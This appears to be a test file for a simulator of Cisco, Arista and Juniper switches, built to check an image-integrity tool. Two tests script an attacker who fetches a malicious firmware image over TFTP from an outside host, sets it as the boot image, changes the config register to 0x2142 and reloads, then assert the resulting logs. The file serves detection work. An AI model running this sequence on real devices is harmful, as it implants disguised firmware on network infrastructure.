import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ssh2 from 'ssh2';

const { Client } = ssh2;
import { PLATFORMS, type PlatformId } from '../model/platform.js';
import { detectFailure, drivers } from '../platforms/index.js';
import { digestOf, genuineContent, MISBEHAVIOURS } from './device.js';
import { startFleet, SIM_PASSWORD, type Fleet } from './fleet.js';
import { simPlatforms } from './platforms/index.js';
import { syntheticFleet } from './synthetic.js';

const NOW = new Date('2026-12-04T20:01:02.123Z');
// terminal lines are numbered in login order; the tests do not depend on it
const anyTty = (text: string): string => text.replace(/\b(vty|pts\/)\d+/g, '$1N');

describe('the simulator', () => {
  let dir: string;
  let fleet: Fleet;
  const { devices, catalog } = syntheticFleet(10);
  // one device per platform in Berlin time, to see the zone in the logs
  for (const d of devices.slice(5)) d.timezone = 'Europe/Berlin';
  const byPlatform = (p: PlatformId, second = false): string => devices.filter((d) => d.platform === p)[second ? 1 : 0]?.name ?? '';

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ig-sim-'));
    fleet = await startFleet(devices, catalog, { logDir: dir, clock: () => NOW });
  });
  afterAll(async () => {
    await fleet.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('has one platform per platform id, one file per platform, and documents each platform and misbehaviour', () => {
    expect(Object.keys(simPlatforms).sort()).toEqual([...PLATFORMS].sort());
    const files = readdirSync(join(import.meta.dirname, 'platforms')).filter((f) => /^[a-z]+_[a-z]+\.ts$/.test(f));
    expect(files.map((f) => f.replace(/\.ts$/, '')).sort()).toEqual([...PLATFORMS].sort());
    const readme = readFileSync(join(import.meta.dirname, 'README.md'), 'utf8');
    for (const id of [...PLATFORMS, ...MISBEHAVIOURS]) expect(readme).toContain(`| \`${id}\` |`);
  });

  describe.each(PLATFORMS.map((p) => [p]))('%s', (platform) => {
    const driver = drivers[platform];

    it('answers every fact command in a shape the real parser reads, with the device state', () => {
      const name = byPlatform(platform);
      const device = devices.find((d) => d.name === name);
      const image = catalog.images.find((i) => i.id === device?.image);
      const run = (cmd: string): string => {
        const out = fleet.run(name, 'svc-imagegate', cmd, '10.1.1.5');
        expect(detectFailure(driver, out)).toBeNull();
        return out;
      };
      for (const setup of driver.sessionSetup) expect(detectFailure(driver, fleet.run(name, 'svc-imagegate', setup))).toBeNull();
      const version = driver.facts.version.parse(run(driver.facts.version.command));
      expect(version.version?.replace(/\b0+(?=\d)/g, '')).toBe(image?.version.replace(/\b0+(?=\d)/g, ''));
      // devices print uptime to the minute
      const uptime = driver.facts.uptime ? driver.facts.uptime.parse(run(driver.facts.uptime.command)).uptimeSeconds : version.uptimeSeconds;
      expect(Math.abs((uptime ?? -1e9) - fleet.device(name).uptimeSeconds())).toBeLessThan(60);
      if (driver.facts.boot !== 'unsupported') {
        const boot = driver.facts.boot.parse(run(driver.facts.boot.command));
        expect(boot.boot.map((b) => b.replace(/^.*[:/]/, ''))).toEqual(device?.boot?.system.map((b) => b.replace(/^.*[:/]/, '')));
      }
      const files = driver.facts.files.parse(run(driver.facts.files.command));
      expect(files.files.find((f) => f.name === image?.file)?.size).toBe(fleet.device(name).files.get(image?.file ?? '')?.size);
      const hash = driver.facts.hash;
      if (hash === 'unsupported') throw new Error('every platform hashes');
      for (const algorithm of hash.algorithms) {
        const facts = hash.parse(run(hash.command(image?.file ?? '', algorithm)), image?.file ?? '', algorithm);
        expect(facts.digest).toBe(digestOf(genuineContent(image?.file ?? ''), algorithm));
      }
      // a file that is not there is a failed command, never a digest
      expect(detectFailure(driver, fleet.run(name, 'svc-imagegate', hash.command('missing.bin', hash.algorithms[0] ?? 'md5')))).not.toBeNull();
      expect(detectFailure(driver, fleet.run(name, 'svc-imagegate', 'show nonsense'))).not.toBeNull();
    });

    it('gives an interactive shell with the prompt the driver expects', async () => {
      const name = byPlatform(platform, true);
      const endpoint = fleet.endpoints[name];
      const out = await new Promise<string>((resolve, reject) => {
        const client = new Client();
        let text = '';
        let ended = false;
        client.on('ready', () => {
          client.shell({ term: 'vt100' }, (err, stream) => {
            if (err) return reject(err);
            stream.on('data', (b: Buffer) => {
              text += b.toString();
              if (text.includes(driver.facts.version.command) && driver.prompt.test(text) && text.length > 400 && !ended) {
                ended = true;
                resolve(text);
                stream.end('exit\n');
              }
            });
            stream.on('close', () => {
              client.end();
              reject(new Error(`shell closed before a prompt followed the output: ${JSON.stringify(text.slice(-200))}`));
            });
            stream.write(`${driver.sessionSetup[0] ?? ''}\n${driver.facts.version.command}\n`);
          });
        });
        client.on('error', reject);
        client.connect({ host: '127.0.0.1', port: endpoint?.port ?? 0, username: 'svc-imagegate', password: SIM_PASSWORD });
      });
      expect(out).toMatch(driver.prompt);
      const body = out.slice(out.indexOf(driver.facts.version.command) + driver.facts.version.command.length);
      expect(driver.facts.version.parse(body).version).toBeDefined();
    });
  });

  it('plays an IOS-XE attack: copy over TFTP, boot change, config register, reload, with the logs of each', () => {
    const name = byPlatform('cisco_xe', true);
    const dev = fleet.device(name);
    fleet.run(name, 'mallory', 'copy tftp://10.9.9.9/evil.bin flash:', '10.1.1.66');
    fleet.run(name, 'mallory', 'configure terminal', '10.1.1.66');
    fleet.run(name, 'mallory', 'boot system flash:evil.bin', '10.1.1.66');
    fleet.run(name, 'mallory', 'config-register 0x2142', '10.1.1.66');
    fleet.run(name, 'mallory', 'end', '10.1.1.66');
    expect(fleet.run(name, 'mallory', 'show version', '10.1.1.66')).toContain('Configuration register is 0x102 (will be 0x2142 at next reload)');
    fleet.run(name, 'mallory', 'reload', '10.1.1.66');
    expect(dev.running).toBe('evil.bin');
    expect(dev.uptimeSeconds()).toBe(0);
    const version = drivers.cisco_xe.facts.version.parse(fleet.run(name, 'mallory', 'show version', '10.1.1.66'));
    expect(version.image).toBe('flash:evil.bin');
    // the patched image claims the approved version
    expect(version.version?.replace(/\b0+(?=\d)/g, '')).toBe('17.12.4');
    const addr = dev.address;
    const syslog = anyTty(readFileSync(fleet.logs.syslog, 'utf8')).split('\n').filter((l) => l.includes(` ${addr} `));
    expect(syslog).toEqual([
      `Dec  4 20:01:02 ${addr} 1: Dec  4 21:01:02.123 CET: %PARSER-5-CFGLOG_LOGGEDCMD: User:mallory  logged command:boot system flash:evil.bin`,
      `Dec  4 20:01:02 ${addr} 2: Dec  4 21:01:02.123 CET: %PARSER-5-CFGLOG_LOGGEDCMD: User:mallory  logged command:config-register 0x2142`,
      `Dec  4 20:01:02 ${addr} 3: Dec  4 21:01:02.123 CET: %SYS-5-CONFIG_I: Configured from console by mallory on vtyN (10.1.1.66)`,
      `Dec  4 20:01:02 ${addr} 4: Dec  4 21:01:02.123 CET: %SYS-5-RELOAD: Reload requested by mallory on vtyN (10.1.1.66). Reload Reason: Reload Command.`,
      `Dec  4 20:01:02 ${addr} 1: Dec  4 21:01:02.123 CET: %SYS-5-RESTART: System restarted --#012Cisco IOS Software [Dublin], Catalyst L3 Switch Software (CAT9K_IOSXE), Version 17.12.4, RELEASE SOFTWARE (fc3)`,
      `Dec  4 20:01:02 ${addr} 2: Dec  4 21:01:02.123 CET: %SYS-6-BOOTTIME: Time taken to reboot after reload =  180 seconds`,
    ]);
    expect(readFileSync(fleet.logs.tftp, 'utf8')).toContain(`Dec  4 20:01:02 tftp in.tftpd[4242]: RRQ from ${addr} filename evil.bin\n`);
    const tacacs = readFileSync(fleet.logs.tacacs, 'utf8').split('\n').filter((l) => l.includes(`\t${addr}\tmallory\t`));
    expect(tacacs[0]).toMatch(new RegExp(`^Dec  4 20:01:02\\t${addr.replace(/\./g, '\\.')}\\tmallory\\tvty\\d+\\t10\\.1\\.1\\.66\\tstart\\ttask_id=\\d+\\ttimezone=UTC\\tservice=shell$`));
    expect(tacacs.slice(1).map((l) => l.split('\t').slice(5).filter((f) => !f.startsWith('task_id')).join('\t'))).toEqual(
      ['copy tftp://10.9.9.9/evil.bin flash:', 'configure terminal', 'boot system flash:evil.bin', 'config-register 0x2142', 'end', 'show version', 'reload', 'show version'].map(
        (c) => `stop\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=${c} <cr>`,
      ),
    );
  });

  it('plays the attack on NX-OS, EOS and Junos, each logging in its own format', () => {
    const nx = byPlatform('cisco_nxos', true);
    fleet.run(nx, 'mallory', 'copy tftp://10.9.9.9/evil.bin bootflash: vrf management\nconfigure terminal\nboot nxos bootflash:evil.bin\nend\nreload');
    expect(drivers.cisco_nxos.facts.version.parse(fleet.run(nx, 'svc-imagegate', 'show version')).image).toMatch(/evil\.bin$/);
    const eos = byPlatform('arista_eos', true);
    fleet.run(eos, 'mallory', 'copy tftp://10.9.9.9/evil.swi flash:\nconfigure terminal\nboot system flash:evil.swi\nend');
    const bootConfig = drivers.arista_eos.facts.boot;
    if (bootConfig === 'unsupported') throw new Error('EOS has boot-config');
    expect(bootConfig.parse(fleet.run(eos, 'svc-imagegate', 'show boot-config')).boot).toEqual(['flash:/evil.swi']);
    fleet.run(eos, 'mallory', 'reload');
    const junos = byPlatform('juniper_junos', true);
    fleet.run(junos, 'mallory', 'file copy tftp://10.9.9.9/junos-evil-23.4R2-S3.9.tgz /var/tmp/\nrequest system software add /var/tmp/junos-evil-23.4R2-S3.9.tgz\nrequest system reboot');
    const log = anyTty(readFileSync(fleet.logs.syslog, 'utf8'));
    const nxAddr = fleet.device(nx).address;
    expect(log).toContain(`Dec  4 20:01:02 ${nxAddr} : 2026 Dec  4 21:01:02 CET: %VSHD-5-VSHD_SYSLOG_CONFIG_I: Configured from vty by mallory on 10.1.1.10@pts/N\n`);
    expect(log).toContain(`Dec  4 20:01:02 ${nxAddr} : 2026 Dec  4 21:01:02 CET: %PLATFORM-2-PFM_SYSTEM_RESET: Manual system restart from Command Line Interface\n`);
    expect(log).toContain(`Dec  4 20:01:02 ${eos} Cli: %SYS-5-CONFIG_E: Enter configuration mode from console by mallory on vtyN (10.1.1.10)\n`);
    expect(log).toContain(`Dec  4 20:01:02 ${eos} Aaa: %ACCOUNTING-6-CMD: mallory vtyN 10.1.1.10 stop service=shell priv-lvl=15 cmd=boot system flash:evil.swi\n`);
    expect(log).toContain(`Dec  4 20:01:02 ${eos} Cli: %SYS-5-CONFIG_I: Configured from console by mallory on vtyN (10.1.1.10)\n`);
    const pid = fleet.device(junos).pid;
    expect(log).toContain(`Dec  4 20:01:02 ${junos} mgd[${pid}]: UI_CMDLINE_READ_LINE: User 'mallory', command 'request system software add /var/tmp/junos-evil-23.4R2-S3.9.tgz '\n`);
    expect(log).toContain(`Dec  4 20:01:02 ${junos} mgd[${pid}]: UI_REBOOT_EVENT: System rebooted by 'mallory'\n`);
    expect(fleet.device(junos).version).toBe('23.4R2-S3.9');
    expect(fleet.device(junos).running).toBe('junos-evil-23.4R2-S3.9.tgz');
    const tftp = readFileSync(fleet.logs.tftp, 'utf8');
    for (const [dev, file] of [[nx, 'evil.bin'], [eos, 'evil.swi'], [junos, 'junos-evil-23.4R2-S3.9.tgz']] as const) {
      expect(tftp).toContain(`RRQ from ${fleet.device(dev).address} filename ${file}\n`);
    }
  });

  it('writes an OpenSSH config that names every device', () => {
    const text = fleet.sshConfig();
    for (const d of devices) expect(text).toContain(`Host ${d.name}\n  HostName 127.0.0.1\n  Port ${fleet.endpoints[d.name]?.port}\n  User svc-imagegate\n`);
  });
});
